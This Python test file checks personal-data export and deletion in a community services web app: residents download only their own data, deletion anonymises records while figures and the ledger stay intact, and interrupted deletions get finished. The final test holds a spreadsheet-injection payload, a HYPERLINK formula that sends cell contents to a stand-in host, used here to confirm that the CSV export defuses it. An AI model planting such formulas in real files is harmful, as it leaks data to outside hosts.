"""Personal-data rights: a person sees and downloads all their own data (and only theirs), and deletion anonymises
it while the statistics and the time-bank ledger stay as they were."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import select

from community_hall.accounts.data_views import LABELS
from community_hall.accounts.models import Membership, Profile, User
from community_hall.accounts.personal_data import KINDS, PLACEHOLDER_NAME
from community_hall.appointments.models import Appointment
from community_hall.audit import AuditEvent
from community_hall.tenancy import community_session, get_community, registry_session
from community_hall.timebank import ledger
from community_hall.timebank.volunteer_models import Volunteer
from community_hall.window.models import Ticket
from community_hall.window.ratings_models import Notification, Rating
from community_hall.window.services import Actor, Submission, submit_ticket
from tests.menu.conftest import menu  # noqa: F401 - the menu fixture
from tests.personal_setup import ID_NUMBER, PHONE, populate, ticket_figures
from tests.window.conftest import submit  # noqa: F401 - the submit fixture

SITE_ROUTES = ["/account/data", "/account/data.json", "/account/data.csv", "/account/delete"]


@pytest.mark.parametrize("path", SITE_ROUTES)
def test_site_routes_send_anonymous_visitors_to_sign_in(client, path):
    response = client.get(path)
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert client.post("/account/delete", data={"password": "x"}).status_code in (302, 400)


def test_delete_post_of_anonymous_visitor_changes_nothing(app, build, auth, client):
    build.two_communities()
    response = auth.post("/account/delete", {"password": "password123"})
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    with app.app_context():
        assert registry_session().query(User).filter_by(is_active=False).count() == 0


def test_resident_sees_and_downloads_everything_of_their_own_and_nothing_of_others(app, menu, auth, client):  # noqa: F811
    data = populate(app)
    auth.login("res-a")
    page = client.get("/account/data").get_data(as_text=True)
    assert data.ticket in page and PHONE in page and data.other not in page

    response = client.get("/account/data.json")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    body = response.get_json()
    assert body["account"]["username"] == "res-a" and "password_hash" not in body["account"]
    assert [m["role"] for m in body["memberships"]] == ["resident"]
    [community] = [c for c in body["communities"] if c["slug"] == "comm-a"]
    held = community["data"]
    assert [t["number"] for t in held["ticket"]] == [data.ticket]
    assert held["ticket"][0]["id_number"] == ID_NUMBER
    assert {"profile", "ticket_event", "appointment", "queue_number", "rating", "notification", "volunteer",
            "ledger_account", "ledger_entry", "activity_signup"} <= set(held)
    assert held["ledger_account"][0]["balance_minutes"] == 120
    assert data.other not in json.dumps(body, ensure_ascii=False)
    assert all(c["slug"] != "comm-b" for c in body["communities"])   # nothing there, and not a member

    response = client.get("/account/data.csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["community", "kind", "record", "field", "value"]
    assert ["comm-a", "ticket", "1", "number", data.ticket] in rows
    assert ["comm-a", "volunteer", "1", "id_number", ID_NUMBER] in rows
    with app.app_context():
        events = community_session("comm-a").scalars(
            select(AuditEvent.detail).where(AuditEvent.action == "privacy.export")).all()
        assert events == ["format=json", "format=csv"]
        assert community_session("comm-b").scalars(
            select(AuditEvent).where(AuditEvent.action == "privacy.export")).all() == []
    again = client.get("/account/data.json").get_json()["communities"][0]["data"]
    actions = [e["action"] for e in again["audit_event"]]                 # their own actions
    assert actions.count("privacy.export") == 2 and "member.create.resident" in actions


def test_staff_download_leaves_out_what_they_entered_for_residents(app, menu, auth, client):  # noqa: F811
    with app.app_context():
        staff_id = registry_session().scalar(select(User.id).where(User.username == "staff-a"))
        submit_ticket(community_session("comm-a"), get_community("comm-a"), Submission(
            item_code="ZJ-001", resident_name="李四", resident_phone="13900000003", channel="window"),
            Actor(staff_id, "员工a", "staff"))
    auth.login("staff-a")
    body = client.get("/account/data.json").get_data(as_text=True)
    assert "员工a" in body and "13900000003" not in body and "李四" not in body


def test_wrong_passwords_at_deletion_are_limited_like_sign_in(app, build, auth, client):
    build.two_communities()
    auth.login("res-a")
    statuses = [auth.post("/account/delete", {"password": f"wrong-{i}"}).status_code for i in range(6)]
    assert statuses == [200] * 5 + [429]
    with app.app_context():
        assert registry_session().scalar(select(User).where(User.username == "res-a")).is_active


def test_every_kind_of_record_has_a_name_in_the_page():
    assert set(KINDS) == set(LABELS)


def _snapshot(app, uid: int):
    """Balances and rating levels, which deletion must not change."""
    with app.app_context():
        session = community_session("comm-a")
        session.expire_all()
        balances = {a: ledger.balance(session, a) for a in (ledger.person(uid), "issuing")}
        levels = [(r.ticket_id, r.level, r.scores) for r in session.scalars(select(Rating).order_by(Rating.id))]
        return balances, levels


def test_deletion_needs_the_password_then_anonymises_and_keeps_figures_and_ledger(app, menu, auth, client,  # noqa: F811
                                                                                   runner, zh):
    data = populate(app)
    figures, before = ticket_figures(app), _snapshot(app, data.user_id)
    auth.login("res-a")
    assert "password" in client.get("/account/delete").get_data(as_text=True)
    response = auth.post("/account/delete", {"password": "wrong-password"})
    assert response.status_code == 200 and zh("The password is wrong.") in response.get_data(as_text=True)
    with app.app_context():
        assert registry_session().get(User, data.user_id).is_active

    response = auth.post("/account/delete", {"password": "password123"})
    assert response.status_code == 302
    assert client.get("/account/data").status_code == 302           # signed out
    assert auth.login("res-a").status_code == 200                    # the form again: cannot sign in
    with app.app_context():
        user = registry_session().get(User, data.user_id)
        assert (user.username, user.display_name, user.is_active) == (f"deleted-{data.user_id}", PLACEHOLDER_NAME, False)
        assert registry_session().scalars(select(Membership).where(Membership.user_id == data.user_id)).all() == []
        session = community_session("comm-a")
        ticket = session.scalar(select(Ticket).where(Ticket.number == data.ticket))
        assert (ticket.resident_name, ticket.resident_phone, ticket.id_number, ticket.home_address, ticket.details) \
            == (PLACEHOLDER_NAME, "", "", "", "")
        assert ticket.status == "done" and ticket.resident_user_id == data.user_id
        other = session.scalar(select(Ticket).where(Ticket.number == data.other))
        assert other.resident_name == "李四"                          # nobody else's record changes
        profile = session.get(Profile, data.user_id)
        assert (profile.real_name, profile.phone, profile.address) == (PLACEHOLDER_NAME, "", "")
        volunteer = session.get(Volunteer, data.volunteer_id)
        assert (volunteer.real_name, volunteer.phone, volunteer.id_number, volunteer.status) \
            == (PLACEHOLDER_NAME, "", "", "approved")
        assert session.get(Appointment, data.appointment_id).phone == ""
        assert session.scalars(select(Notification).where(Notification.user_id == data.user_id)).all() == []
        assert session.scalars(select(AuditEvent).where(AuditEvent.action == "privacy.delete")).all()
        for slug in ("comm-a", "comm-b"):
            dump = "\n".join(str(row) for row in community_session(slug).execute(select(Ticket)).all())
            assert PHONE not in dump and ID_NUMBER not in dump
    assert ticket_figures(app) == figures and _snapshot(app, data.user_id) == before
    result = runner.invoke(args=["hall", "ledger-check"])
    assert result.exit_code == 0 and "comm-a: ok" in result.output


def test_deletion_is_refused_while_a_ticket_is_open_and_for_staff(app, menu, submit, auth, client, zh):  # noqa: F811
    with app.app_context():
        uid = registry_session().scalar(select(User.id).where(User.username == "res-a"))
    submit(resident_user_id=uid)
    auth.login("res-a")
    response = auth.post("/account/delete", {"password": "password123"})
    assert zh("You still have open matters (tickets, appointments or orders). Withdraw them or wait until they are "
              "finished, then ask again.") in response.get_data(as_text=True)
    auth.logout()
    auth.login("staff-a")
    response = auth.post("/account/delete", {"password": "password123"})
    assert zh("Staff, heads and district administrators cannot delete their own account here: ask the head of "
              "your community (or the street office) to remove you.") in response.get_data(as_text=True)
    with app.app_context():
        assert registry_session().query(User).filter_by(is_active=False).count() == 0
        assert community_session("comm-a").scalar(select(Ticket).where(Ticket.resident_user_id == uid)).resident_phone


def _texts_holding(app, slug: str, needles: set[str]) -> list[str]:
    """Every (table.column) of a community's database, audit log aside, whose text holds one of the needles."""
    import sqlalchemy as sa

    from community_hall.tenancy import CommunityBase

    found = []
    with app.app_context():
        session = community_session(slug)
        session.expire_all()
        for table in CommunityBase.metadata.sorted_tables:
            columns = [c for c in table.columns if isinstance(c.type, sa.String | sa.Text)]
            if table.name == "audit_log" or not columns:
                continue
            for row in session.execute(select(*columns)):
                found += [f"{table.name}.{c.name}: {v}" for c, v in zip(columns, row, strict=True)
                          if v and any(n in v for n in needles)]
    return found


def _statistics(app) -> list:
    """What figures read besides tickets: rating levels and scores, follow-up stages and times, visits."""
    from community_hall.visits.models import HomeVisit
    from community_hall.window.ratings_models import FollowUp

    with app.app_context():
        session = community_session("comm-a")
        session.expire_all()
        return [[(r.ticket_id, r.level, r.scores, r.channel) for r in session.scalars(select(Rating).order_by(Rating.id))],
                [(f.ticket_id, f.status, f.justified, f.contacted_at, f.closed_at)
                 for f in session.scalars(select(FollowUp).order_by(FollowUp.id))],
                [(v.ticket_id, v.outcome, v.visited_at) for v in session.scalars(select(HomeVisit))],
                session.scalar(select(AuditEvent.id).order_by(AuditEvent.id.desc()))]


def test_deletion_clears_what_staff_wrote_about_the_person_and_keeps_every_figure(app, menu, auth, client,  # noqa: F811
                                                                                   runner):
    from community_hall.window import ratings, services
    from community_hall.window.ratings_models import FollowUp
    from tests.personal_setup import user_id

    data = populate(app)
    with app.app_context():
        session, community = community_session("comm-a"), get_community("comm-a")
        profile_phone = session.get(Profile, data.user_id).phone
        staff = Actor(user_id("staff-a"), "员工a", "staff")
        me = Actor(data.user_id, "居民甲", "resident")
        sub = Submission(item_code="SB-001", resident_name="居民甲", resident_phone=PHONE, resident_user_id=data.user_id,
                         id_number=ID_NUMBER, details=f"请打{PHONE}")
        ticket = submit_ticket(session, community, sub, me)
        ticket = services.accept(session, community, ticket, staff, ["身份证"], note=f"已电话联系 {PHONE}")
        ticket = services.start(session, ticket, staff, note=f"居民甲 身份证{ID_NUMBER}")
        ticket = services.complete(session, ticket, staff, f"居民甲您好，已办结。有问题请回电 {PHONE}")
        ratings.rate_ticket(session, ticket, 1, [1, 2, 1], f"太慢了 {PHONE}", "offline", "resident", actor=me)
        followup = session.scalar(select(FollowUp).where(FollowUp.ticket_id == ticket.id))
        for step in ("contact", "verify", "rectify", "close"):
            followup = ratings.follow_up_step(session, followup, step, f"回访居民甲（{PHONE}）", staff,
                                              justified=True if step == "verify" else None)
        declined = submit_ticket(session, community, Submission(
            item_code="SB-001", resident_name="居民甲", resident_phone=PHONE, resident_user_id=data.user_id), me)
        services.decline(session, declined, staff, f"居民甲 {ID_NUMBER} 不符合条件")
        numbers = (ticket.number, declined.number)
    needles = {"居民甲", "居民a", PHONE, ID_NUMBER, profile_phone}
    assert len(_texts_holding(app, "comm-a", needles)) > 10        # the scan sees the data before
    figures, statistics, before = ticket_figures(app), _statistics(app), _snapshot(app, data.user_id)

    auth.login("res-a")
    assert auth.post("/account/delete", {"password": "password123"}).status_code == 302
    assert _texts_holding(app, "comm-a", needles) == []
    assert ticket_figures(app) == figures and _snapshot(app, data.user_id) == before
    after = _statistics(app)
    assert after[:3] == statistics[:3] and after[3] > statistics[3]  # and the audit log only grew
    with app.app_context():
        session = community_session("comm-a")
        done, no = (session.scalar(select(Ticket).where(Ticket.number == n)) for n in numbers)
        assert (done.status, done.reply, no.status, no.decline_reason) == ("done", "（已删除）", "declined", "（已删除）")
        notes = {e.action: e.note for e in done.events}
        assert notes["accept"] == notes["complete"] == "（已删除）" and notes["rate"] == "1/5"
        assert session.scalar(select(FollowUp).where(FollowUp.ticket_id == done.id)).reply == "（已删除）"
        assert session.scalar(select(Rating).where(Rating.ticket_id == done.id)).comment == ""
    result = runner.invoke(args=["hall", "ledger-check"])
    assert result.exit_code == 0 and "comm-a: ok" in result.output


def test_every_field_the_page_can_show_has_a_name_in_both_languages(app):
    from community_hall.accounts.data_labels import FIELDS
    from community_hall.accounts.personal_data import fields_of

    missing = sorted({f"{kind}.{key}" for kind in KINDS for key in fields_of(kind) if key not in FIELDS})
    assert missing == []                       # a new column needs a label in data_labels.FIELDS
    assert "password_hash" not in fields_of("account") and "via_proxy" in fields_of("ticket")
    with app.test_request_context("/?lang=en"):
        assert str(FIELDS["resident_phone"]) == "Mobile phone"


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
def test_the_page_names_fields_in_the_readers_language_and_downloads_keep_the_keys(app, menu, auth, client, zh,  # noqa: F811
                                                                                    lang):
    import html
    import re

    from community_hall.accounts.data_labels import FIELDS

    populate(app)
    auth.login("res-a")
    page = client.get(f"/account/data?lang={lang}").get_data(as_text=True)
    shown = [html.unescape(s) for s in re.findall(r"<dt>([^<]*)</dt>", page)]
    names = {str(label) for label in FIELDS.values()} if lang == "en" else {zh(str(label._args[0]))
                                                                             for label in FIELDS.values()}
    assert len(shown) > 100 and PHONE in page
    assert [key for key in shown if re.fullmatch(r"[a-z0-9_]+", key)] == []          # no raw column name
    assert {"resident_phone", "id_number", "item_code"}.isdisjoint(shown)
    phone = "Mobile phone" if lang == "en" else zh("Mobile phone")
    assert phone in shown and set(shown) - names <= ({"Username", "Name", "Created", "Real name", "Mobile phone",
                                                      "Address in the community"} if lang == "en" else
                                                     {zh(s) for s in ("Username", "Name", "Created", "Real name",
                                                                      "Mobile phone", "Address in the community")})
    body = client.get("/account/data.json").get_json()
    ticket = next(c for c in body["communities"] if c["slug"] == "comm-a")["data"]["ticket"][0]
    assert ticket["resident_phone"] == PHONE and "item_code" in ticket          # the downloads keep the keys
    assert ",resident_phone," in client.get("/account/data.csv").get_data(as_text=True)


def test_anonymising_a_ticket_clears_the_inquiry_it_came_from_and_the_notices_naming_it(app, menu):  # noqa: F811
    from community_hall.accounts.personal_data import REMOVED_TEXT, anonymise_ticket
    from community_hall.routing.models import Inquiry, StaffNotification
    from community_hall.routing.services import InquiryData, inquiry_to_ticket, log_inquiry
    from community_hall.window import services
    from tests.personal_setup import user_id

    with app.app_context():
        session, community = community_session("comm-a"), get_community("comm-a")
        staff_id = user_id("staff-a")
        inquiry = log_inquiry(session, community, staff_id, InquiryData(
            resident_name="赵咨询", text=f"低保怎么办，回电{PHONE}", contact_phone=PHONE, item_code="SB-001"))
        inquiry.topic = f"赵咨询 {PHONE} 低保"              # a topic typed over the service's name
        session.commit()
        ticket = inquiry_to_ticket(session, community, session.get(Inquiry, inquiry.id), staff_id, "员工a")
        staff = Actor(staff_id, "员工a", "staff")
        ticket = services.accept(session, community, ticket, staff, ["身份证"])
        services.complete(session, ticket, staff, f"赵咨询您好，已办好 {PHONE}")
        assert any(PHONE in n.params for n in session.scalars(select(StaffNotification)))
        status = session.get(Inquiry, inquiry.id).status

        assert anonymise_ticket(session, session.get(Ticket, ticket.id)) is True
        session.commit()
        assert anonymise_ticket(session, session.get(Ticket, ticket.id)) is False     # counted once
        session.commit()
    assert _texts_holding(app, "comm-a", {"赵咨询", PHONE}) == []
    with app.app_context():
        found = community_session("comm-a").get(Inquiry, inquiry.id)
        assert (found.status, found.ticket_id, found.topic, found.text) == (status, ticket.id, REMOVED_TEXT, "")


def test_deleting_a_volunteer_clears_their_name_and_words_from_others_orders_reversals_and_logs(  # noqa: F811
        app, menu, build, auth, client, runner):  # noqa: F811
    from community_hall.appointments.services import local_now
    from community_hall.audit import SiteAuditEvent
    from community_hall.menu.models import ServiceItem
    from community_hall.timebank import orders
    from community_hall.timebank.ledger_models import LedgerAccount, LedgerEntry, LedgerMovement
    from community_hall.timebank.order_models import Order, OrderEvent
    from tests.personal_setup import HEAD, user_id

    data = populate(app)     # res-a is volunteer 居民甲 with 2 confirmed hours
    build.user("res-a2", "comm-a", "resident", "居民乙", phone="13800000019")
    with app.app_context():
        session, community = community_session("comm-a"), get_community("comm-a")
        item = session.scalars(select(ServiceItem).where(ServiceItem.published.is_(True))).first()
        item.provider = "volunteers"
        session.commit()
        neighbour, head = user_id("res-a2"), Actor(user_id("head-a"), "站长a", "head")
        me = Actor(data.user_id, "居民甲", "resident")
        today = local_now(community).date()
        order = orders.place(session, neighbour, orders.NewOrder(
            item_id=item.id, wanted_day=today + timedelta(days=2), wanted_part="am", address="2-1-101",
            phone="13800000019", note="换灯泡"), Actor(neighbour, "居民乙", "resident"), today)
        orders.dispatch(session, order.id, data.volunteer_id, head)
        orders.decline(session, order.id, me, "居民甲今天去医院")
        orders.dispatch(session, order.id, data.volunteer_id, head)
        orders.accept(session, order.id, me)
        orders.complete(session, order.id, me, "1", f"居民甲已换好，有事打{PHONE}")
        account = session.scalar(select(LedgerAccount.account).where(LedgerAccount.user_id == data.user_id))
        credit = session.scalar(select(LedgerEntry.movement_id).where(LedgerEntry.account == account))
        ledger.reverse(session, credit, "居民甲那天没来，记错了", HEAD)
        number = session.get(Volunteer, data.volunteer_id).number
        order_id = order.id
    needles = {"居民甲", PHONE}
    held = _texts_holding(app, "comm-a", needles)
    assert any(h.startswith("order_events.note") for h in held) and any(h.startswith("orders.done_note") for h in held)
    assert any(h.startswith("ledger_movements.reason") for h in held)

    auth.login("res-a")
    assert auth.post("/account/delete", {"password": "password123"}).status_code == 302
    assert _texts_holding(app, "comm-a", needles) == []
    with app.app_context():
        session = community_session("comm-a")
        order = session.get(Order, order_id)
        assert (order.status, order.resident_name, order.volunteer_id) == ("done", "居民乙", data.volunteer_id)
        notes = [(e.action, e.note) for e in session.scalars(select(OrderEvent).where(OrderEvent.order_id == order_id)
                                                             .order_by(OrderEvent.id))]
        assert ("dispatch", f"{number} {PLACEHOLDER_NAME}") in notes and ("decline", "（已删除）") in notes
        assert ("order", "换灯泡") in notes            # the neighbour's own words stay
        reversal = session.scalar(select(LedgerMovement).where(LedgerMovement.kind == "reverse"))
        assert reversal.reason == "（已删除）" and reversal.reverses_movement_id == credit
        # Neither log names the account by its username: members and sign-ins are recorded by id.
        details = session.scalars(select(AuditEvent.detail)).all() + registry_session().scalars(
            select(SiteAuditEvent.detail)).all()
        assert f"user #{data.user_id}" in details and not any("res-a" in d for d in details if d)
    result = runner.invoke(args=["hall", "ledger-check"])
    assert result.exit_code == 0 and "comm-a: ok" in result.output


def test_a_deletion_cut_short_leaves_a_closed_account_that_the_retention_sweep_finishes(app, menu, auth, client,  # noqa: F811
                                                                                          runner, monkeypatch):
    from community_hall.accounts import personal_data

    data = populate(app)
    real = personal_data.anonymise_person

    calls = []

    def crash_in_comm_b(session, user_id):      # the communities go in order: comm-a, then comm-b
        calls.append(user_id)
        if len(calls) == 2:
            raise RuntimeError("the machine went down")
        return real(session, user_id)

    monkeypatch.setattr(personal_data, "anonymise_person", crash_in_comm_b)
    auth.login("res-a")
    with pytest.raises(RuntimeError):
        auth.post("/account/delete", {"password": "password123"})
    monkeypatch.setattr(personal_data, "anonymise_person", real)
    with app.app_context():
        user = registry_session().get(User, data.user_id)
        assert (user.username, user.is_active) == ("res-a", False) and user.deleting_since is not None
        assert registry_session().scalars(select(Membership).where(Membership.user_id == data.user_id)).all()
        ticket = community_session("comm-a").scalar(select(Ticket).where(Ticket.number == data.ticket))
        assert ticket.resident_name == PLACEHOLDER_NAME           # comm-a was done before the cut
    client.get("/logout")
    assert auth.login("res-a").status_code == 200                 # closed: the sign-in form again

    assert "cut short: 1" in runner.invoke(args=["hall", "retention-sweep", "--dry-run"]).output
    result = runner.invoke(args=["hall", "retention-sweep"])
    assert result.exit_code == 0 and f"finished: 1 (users {data.user_id})" in result.output
    with app.app_context():
        registry_session().expire_all()
        user = registry_session().get(User, data.user_id)
        assert (user.username, user.display_name, user.deleting_since) == (f"deleted-{data.user_id}", PLACEHOLDER_NAME,
                                                                           None)
        assert registry_session().scalars(select(Membership).where(Membership.user_id == data.user_id)).all() == []
    assert "cut short" not in runner.invoke(args=["hall", "retention-sweep"]).output
    result = runner.invoke(args=["hall", "ledger-check"])
    assert result.exit_code == 0 and "comm-a: ok" in result.output


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_download_neutralises_cells_a_spreadsheet_would_run(app, menu, submit, auth, client, start):  # noqa: F811
    from tests.personal_setup import user_id

    typed = f"{start}HYPERLINK(\"http://x.example/?\"&A1)"
    with app.app_context():
        resident = user_id("res-a")
    submit(details=typed, resident_name="居民a", resident_user_id=resident)
    auth.login("res-a")
    rows = list(csv.reader(io.StringIO(client.get("/account/data.csv").get_data(as_text=True).lstrip("\ufeff"))))
    details = [row[4] for row in rows if row[1] == "ticket" and row[3] == "details"]
    assert len(details) == 1 and details[0].lstrip("'").endswith(typed.strip())   # the form strips a tab or CR
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
